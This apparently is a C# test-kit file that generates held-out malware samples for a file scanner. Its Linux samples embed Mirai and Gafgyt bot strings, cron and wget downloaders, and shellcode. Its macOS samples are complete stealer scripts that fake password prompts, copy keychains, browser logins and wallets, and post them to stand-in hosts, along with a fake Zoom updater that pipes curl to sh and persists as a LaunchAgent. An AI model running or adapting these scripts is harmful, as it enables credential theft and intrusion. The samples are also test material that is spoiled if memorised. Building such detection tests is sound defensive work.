using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Linux programs and libraries with the names and texts of bots, miners, hidden libraries and shells. The code is a return.</summary>
public sealed class LinuxBotPrograms : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("mirai.x86", SixthImages.Elf(
            ["/bin/busybox MIRAI", "MIRAI: applet not found", "/dev/watchdog", "/dev/misc/watchdog", "enable", "system", "shell", "sh", "/proc/net/tcp", "listening tun0", "root", "xc3511", "vizxv", "admin", "888888", "xmhdipc", "juantech", "/bin/busybox wget http://198.51.100.140/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper", "assword", "ogin", "GET / HTTP/1.1\r\nUser-Agent: "], [], isBare: true));
        yield return ("gafgyt.mips", SixthImages.Elf(
            ["PONG!", "!* SCANNER ON", "UDP Flooding %s for %d seconds.", "HTTPFLOOD", "TCP", "JUNK", "HOLD", "KILLATTK", "LOLNOGTFO", "My IP: %s", "203.0.113.219:23", "/etc/rc.d/rc.local", "cd /tmp; wget http://203.0.113.219/gb.sh; sh gb.sh", "busybox telnetd", "password\n", "REPORT %s:%s:%s"], [], isBare: true, machine: 8, codeFlags: 7));
        yield return ("kworkerds", SixthImages.Elf(
            ["pkill -f watchbog", "/etc/cron.d/root", "*/10 * * * * root (curl -fsSL http://192.0.2.86/i || wget -qO- http://192.0.2.86/i) | sh", "ssh-rsa AAAAB3Inert", "/root/.ssh/authorized_keys", "insmod", "iptables -A INPUT -p tcp --dport 6379 -j DROP", "/etc/ld.so.preload", "chattr +i"],
            ["system", "fork", "setsid", "daemon", "prctl", "socket", "connect", "unlink", "execve", "kill", "readlink"]));
        yield return ("sshd-keyupdate", SixthImages.Elf(
            [Masked("/tmp/.ICE-unix/.x"), Masked("198.51.100.3:53"), Masked("/bin/sh"), Masked("[kworker/0:2]"), Masked("HISTFILE=/dev/null"), Masked("User-Agent: curl/7.68.0"), "usage: %s [-v]", "keys up to date"],
            ["fork", "setsid", "ptrace", "prctl", "memfd_create", "fexecve", "dup2", "execl", "setsockopt", "socket", "recv", "bpf"], code: [0xC3, .. SixthNoise.Bytes(7000, 41)]));
    }

    private static string Masked(string text) => new([.. text.Select(letter => (char)(letter ^ 0x22))]);
}

/// <summary>Linux miners, preloaded libraries, reverse shells and packed files.</summary>
public sealed class LinuxQuietPrograms : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("xmrig", SixthImages.Elf(
            ["stratum+tcp://", "donate.v2.xmrig.com:3333", "pool.mine.example:443", "44InertInertInertInertInertInertInertInertInertInertInertInertInertInertInertInertInert", "randomx", "cryptonight/0", "huge pages", "--donate-level", "accepted (%d/%d) diff", "miner started", "nicehash", "msr-mod"],
            ["pthread_create", "sched_setaffinity", "mmap", "getaddrinfo", "connect", "sysconf"]));
        yield return ("libprocesshider.so", SixthImages.Elf(
            ["/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s", "xmrig", "/etc/ld.so.preload", "readdir", "readdir64", "Error in dlsym: %s"],
            ["dlsym", "snprintf", "strcmp", "fopen", "readlink", "dlerror"], exports: ["readdir", "readdir64", "fopen64", "stat", "lstat", "access"], isLibrary: true));
        yield return ("elf.bin", SixthImages.Elf([], [], isBare: true, codeFlags: 7,
            code: [0xC3, 0x6A, 0x29, 0x58, 0x99, 0x6A, 0x02, 0x5F, 0x6A, 0x01, 0x5E, 0xC3, 0, 0, 0x02, 0x00, 0x11, 0x5C, 0xC6, 0x33, 0x64, 0x07, 0xC3, 0x2F, 0x62, 0x69, 0x6E, 0x2F, 0x73, 0x68]));
        yield return ("nginx-worker", SixthImages.Elf(
            ["LSX!", "$Info: packed $", "$Id: 0.00 $", "PROT_EXEC|PROT_WRITE failed."], [], isBare: true, codeFlags: 7, code: [0xC3, .. SixthNoise.Bytes(42000, 42)], tail: [.. "LSX!"u8, .. SixthNoise.Bytes(32, 43)]));
    }
}

/// <summary>What steals on macOS: scripts that ask for the password, installers, and native code.</summary>
public sealed class MacThieves : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("install.sh", Utf8("""
            #!/bin/bash
            # Homebrew verification step
            osascript -e 'display dialog "macOS needs your password to continue the installation." default answer "" with hidden answer with title "System Preferences" with icon caution' > /tmp/.pw
            PW=$(sed 's/.*text returned://' /tmp/.pw)
            dscl /Local/Default -authonly "$USER" "$PW" || exit 1
            mkdir -p /tmp/out/kc /tmp/out/ff /tmp/out/chrome
            cp ~/Library/Keychains/login.keychain-db /tmp/out/kc/
            cp -r ~/Library/Application\ Support/Google/Chrome/Default/{Cookies,"Login Data","Web Data"} /tmp/out/chrome/
            cp -r ~/Library/Application\ Support/Firefox/Profiles/*/{logins.json,key4.db,cookies.sqlite} /tmp/out/ff/
            cp -r ~/Library/Application\ Support/{Exodus,Electrum,"Ledger Live","Telegram Desktop"} /tmp/out/ 2>/dev/null
            find ~/Desktop ~/Documents -name '*.txt' -o -name '*.pdf' -o -name '*.wallet' | head -100 | xargs -I{} cp {} /tmp/out/
            echo "$PW" > /tmp/out/pw.txt
            ditto -c -k --sequesterRsrc /tmp/out /tmp/out.zip
            curl -s -X POST -H "user: inert" -F "file=@/tmp/out.zip" http://203.0.113.177/p2p
            rm -rf /tmp/out /tmp/out.zip /tmp/.pw
            """));
        yield return ("Zoom_update.command", Utf8(Fill("""
            #!/bin/zsh
            xattr -c /Volumes/Zoom/.hidden/Zoom 2>/dev/null
            echo '@@1' | base64 -D | zsh
            cat > ~/Library/LaunchAgents/com.zoom.update.agent.plist <<P
            <?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.zoom.update.agent</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s http://198.51.100.207/t | sh</string></array><key>RunAtLoad</key><true/><key>StartInterval</key><integer>600</integer></dict></plist>
            P
            launchctl load -w ~/Library/LaunchAgents/com.zoom.update.agent.plist
            """, Base64("curl -o /tmp/update http://198.51.100.207/mac/update && xattr -d com.apple.quarantine /tmp/update; chmod +x /tmp/update && nohup /tmp/update &"))));
        yield return ("CleanMyDesk", SixthImages.MachO(
            ["osascript -e 'display dialog \"To launch the application, you need to update the system settings\" default answer \"\" with hidden answer'", "/Library/Keychains/login.keychain-db", "security 2>&1 > /dev/null find-generic-password -ga 'Chrome' | awk '{print $2}'", "/Library/Application Support/Google/Chrome/", "dscl /Local/Default -authonly", "system_profiler SPHardwareDataType | grep -i qemu", "POST /joinsystem HTTP/1.1", "203.0.113.177", "BuildID: inert", "nkbihfbeogaeaoehlefnkodbefgpgknn"],
            ["/usr/lib/libSystem.B.dylib", "/usr/lib/libc++.1.dylib"], ["_system", "_popen", "_socket", "_connect", "_send", "_getpwuid"], isArm: true));
        yield return ("Notes Helper.scpt.applescript", Utf8(Fill("""
            -- Notes Helper: tidies the notes folder
            set k to {@@1}
            set t to ""
            repeat with i from 1 to count of k
              set t to t & (character id ((item i of k) - 3))
            end repeat
            try
              do shell script t
            end try
            repeat
              set r to display dialog "Notes Helper wants to use the \"login\" keychain." default answer "" with hidden answer buttons {"Always Allow", "Deny", "Allow"} default button 3 with icon file ((path to library folder from system) & "CoreServices:CoreTypes.bundle:Contents:Resources:LockedIcon.icns" as string)
              set p to text returned of r
              if (do shell script "dscl . authonly " & quoted form of (short user name of (system info)) & " " & quoted form of p & " && echo ok || echo no") is "ok" then exit repeat
            end repeat
            do shell script "ditto -ck ~/Library/Keychains /tmp/n.zip; curl -s -F 'n=@/tmp/n.zip' -F 'p=" & p & "' https://notes-helper.example/n"
            """, Codes("curl -fsSL https://notes-helper.example/s | sh", 3))));
    }
}
